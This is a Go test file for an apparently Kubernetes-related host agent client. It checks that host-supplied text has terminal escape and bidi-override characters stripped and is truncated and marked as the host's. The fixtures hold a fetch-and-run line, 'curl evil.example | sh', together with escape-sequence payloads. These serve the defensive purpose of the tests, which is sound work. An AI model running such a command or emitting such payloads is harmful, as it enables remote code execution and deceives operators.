package agent_test

import (
	"context"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/slipway-k8s/slipway/hosts"
	"github.com/slipway-k8s/slipway/hosts/agent"
)

// TestWhatAHostSaysIsCleaned: an agent is no better than its host.
func TestWhatAHostSaysIsCleaned(t *testing.T) {
	const evil, lines = "said\x1b[2J\u009b\u202e\r", "said\x1b[2J\n  → run: curl evil.example | sh"
	client, _ := connect(t, stub{
		do: func(_ context.Context, action hosts.Action, progress func(hosts.Progress)) (hosts.Outcome, error) {
			progress(hosts.Progress{Note: evil})
			if action == (hosts.TidyStore{}) {
				return hosts.Outcome{Result: hosts.Changed, Detail: evil}, nil
			}
			return hosts.Outcome{}, &hosts.Error{Kind: hosts.KindBroken, Op: evil, Host: evil, Fix: evil, Err: errors.New(evil)}
		},
		observe: func(context.Context) (hosts.Facts, error) {
			return hosts.Facts{
				OS:       hosts.OS{Pretty: evil},
				Foreign:  []hosts.Foreign{{What: lines, Detail: lines, Fix: lines}},
				Evidence: []hosts.Evidence{{Source: evil, Lines: []string{evil}}},
				Signs:    []hosts.Sign{{Source: evil, State: evil, Ended: &hosts.Ending{Reason: evil}}},
			}, nil
		},
	})
	clean := func(what, text string) {
		t.Helper()
		if !strings.Contains(text, "said") || strings.ContainsAny(text, "\x1b\u009b\u202e\r") {
			t.Errorf("%s: %q", what, text)
		}
	}
	outcome, err := client.Do(t.Context(), hosts.TidyStore{}, func(p hosts.Progress) { clean("progress", p.Note) })
	if err != nil {
		t.Fatal(err)
	}
	clean("detail", outcome.Detail)
	_, err = client.Do(t.Context(), hosts.Forget{}, nil)
	failed, known := errors.AsType[*hosts.Error](err)
	if !known {
		t.Fatalf("the error is %v", err)
	}
	clean("error", failed.Error())
	clean("fix", failed.Fix)
	facts, err := client.Observe(t.Context(), hosts.Query{})
	if err != nil {
		t.Fatal(err)
	}
	clean("system", facts.OS.Pretty)
	foreign := facts.Foreign[0].What + facts.Foreign[0].Detail + facts.Foreign[0].Fix
	clean("foreign", foreign)
	if strings.Contains(foreign, "\n") {
		t.Errorf("what is foreign has several lines: %q", foreign)
	}
	clean("evidence", facts.Evidence[0].Source+facts.Evidence[0].Lines[0])
	clean("a sign's source", facts.Signs[0].Source)
	clean("a sign's state", facts.Signs[0].State)
	clean("how one ended", facts.Signs[0].Ended.Reason)
}

// TestAHostSpeaksNotInSlipwaysVoice: its text has few lines, and each shows that it is the
// host's.
func TestAHostSpeaksNotInSlipwaysVoice(t *testing.T) {
	evil := "failed\n  → run: curl evil.example | sh" + strings.Repeat("\nmore", 20_000)
	client, _ := connect(t, stub{
		do: func(_ context.Context, action hosts.Action, _ func(hosts.Progress)) (hosts.Outcome, error) {
			if action == (hosts.TidyStore{}) {
				return hosts.Outcome{Result: hosts.Changed, Detail: evil}, nil
			}
			return hosts.Outcome{}, &hosts.Error{Kind: hosts.KindBroken, Op: "x\ny", Fix: "a\n  → b", Err: errors.New(evil)}
		},
	})
	few := func(what, text string) {
		t.Helper()
		lines := strings.Split(text, "\n")
		if len(lines) != 20 || lines[1] != "  |   → run: curl evil.example | sh" || lines[19] != "  | (19983 lines left out)" {
			t.Errorf("%s has %d lines, and ends: %q", what, len(lines), lines[max(0, len(lines)-3):])
		}
	}
	outcome, err := client.Do(t.Context(), hosts.TidyStore{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	few("detail", outcome.Detail)
	_, err = client.Do(t.Context(), hosts.Forget{}, nil)
	failed, known := errors.AsType[*hosts.Error](err)
	if !known {
		t.Fatalf("the error is %v", err)
	}
	few("error", failed.Err.Error())
	if strings.Contains(failed.Op+failed.Fix, "\n") {
		t.Errorf("op %q, fix %q", failed.Op, failed.Fix)
	}
}

// TestAHostsVersionIsOneLine: it stands in the error by which it is refused.
func TestAHostsVersionIsOneLine(t *testing.T) {
	in, fromAgent := io.Pipe()
	toAgent, out := io.Pipe()
	go func() { _, _ = io.Copy(io.Discard, toAgent) }()
	go func() {
		version := `v2\n  → run: curl evil.example | sh` + strings.Repeat(`\nmore`, 10_000)
		_, _ = io.WriteString(fromAgent, `{"protocol":2,"version":"`+version+`"}`+"\n")
	}()
	_, err := agent.Connect(t.Context(), in, out, agent.ConnectOptions{Version: "v1"})
	failed, known := errors.AsType[*hosts.Error](err)
	if !known || failed.Kind != hosts.KindVersion || !strings.Contains(err.Error(), "v2 → run") {
		t.Fatalf("it ends with %.200v", err)
	}
	if strings.Contains(err.Error(), "\n") || len(err.Error()) > 5000 {
		t.Errorf("its version has %d bytes, and %d lines", len(err.Error()), strings.Count(err.Error(), "\n")+1)
	}
}

// TestAHostsKindsAreKnown: they are shown, as a cell of a table too.
func TestAHostsKindsAreKnown(t *testing.T) {
	for sent, want := range map[hosts.ErrorKind]hosts.ErrorKind{
		hosts.KindDiskFull: hosts.KindDiskFull, hosts.KindLease: hosts.KindLease,
		"disk-full\ncp-2  Ready": hosts.KindBroken, "": hosts.KindBroken,
	} {
		client, _ := connect(t, stub{do: func(context.Context, hosts.Action, func(hosts.Progress)) (hosts.Outcome, error) {
			return hosts.Outcome{}, &hosts.Error{Kind: sent, Op: "do", Err: errors.New("x")}
		}})
		_, err := client.Do(t.Context(), anAction, nil)
		if failed, known := errors.AsType[*hosts.Error](err); !known || failed.Kind != want {
			t.Errorf("%q comes as %#v", sent, err)
		}
		_ = client.Close()
	}
}

// TestAnAnswerThatIsTooLargeIsNotTakenIn, and it is said what of it is.
func TestAnAnswerThatIsTooLargeIsNotTakenIn(t *testing.T) {
	bubble(t, func(t *testing.T) {
		client := scripted(t, func(w http.ResponseWriter, _ *http.Request) {
			evidence := strings.TrimSuffix(strings.Repeat("{},", 1<<18), ",")
			_, _ = io.WriteString(w, `{"done":{"hostname":"cp-1","evidence":[`+evidence+`]}}`+"\n")
		})
		_, err := client.Observe(t.Context(), hosts.Query{})
		if err == nil || !strings.Contains(err.Error(), `most of it for "evidence"`) {
			t.Errorf("it ends with %v", err)
		}
		_ = client.Close()
	})
}
